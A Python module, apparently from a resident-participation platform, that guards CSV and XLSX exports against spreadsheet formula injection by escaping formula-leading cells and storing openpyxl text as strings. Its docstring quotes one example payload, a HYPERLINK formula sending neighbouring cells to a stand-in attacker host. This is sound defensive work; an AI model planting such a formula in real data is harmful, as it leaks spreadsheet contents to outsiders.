"""Spreadsheet-safe exports: every CSV and XLSX file the platform offers is written through here.

Residents type the texts that end up in exports (poll answers, activity titles, proposal names). A cell that
starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a formula to Excel and
LibreOffice: `=HYPERLINK("http://attacker.invalid/?"&A2, "klik")` would send the neighbouring cells away
when a policy officer opens the file. So:

- CSV: such a text gets a leading apostrophe (`'=HYPERLINK(...)`), which spreadsheets show as text; OWASP's
  advice for CSV injection. Numbers stay numbers (a negative number is not text).
- XLSX: openpyxl stores every `str` starting with `=` as a formula; here strings are always stored as
  strings (`data_type = "s"`), so nothing is evaluated and nothing needs an apostrophe.

Written by hand: no maintained library does this for both formats (and openpyxl's default is the danger).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_text(value: Any) -> Any:
    """A CSV cell that no spreadsheet runs: texts that could start a formula get a leading apostrophe."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_START):
        return "'" + value
    return value


class SafeCSVWriter:
    """`csv.writer` with every cell passed through `safe_text`."""

    def __init__(self, out: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_text(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, **kwargs: Any) -> SafeCSVWriter:
    return SafeCSVWriter(out, **kwargs)


def sheet_append(sheet: Any, row: Sequence[Any]) -> None:
    """`sheet.append(row)` for openpyxl, with every text stored as text (never as a formula)."""
    sheet.append(list(row))
    row_number = sheet.max_row
    for column, value in enumerate(row, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row=row_number, column=column)
            cell.value = value
            cell.data_type = "s"
